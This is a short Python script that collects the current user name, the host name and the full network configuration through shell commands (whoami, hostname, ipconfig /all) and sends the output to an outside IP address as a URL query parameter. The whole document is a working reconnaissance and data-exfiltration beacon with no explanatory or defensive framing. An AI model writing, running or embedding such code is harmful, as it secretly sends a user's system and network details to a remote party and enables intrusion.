import subprocess, urllib.request, urllib.parse
info = subprocess.getoutput("whoami && hostname && ipconfig /all")
urllib.request.urlopen("http://198.51.100.73/c?" + urllib.parse.urlencode({"d": info}))
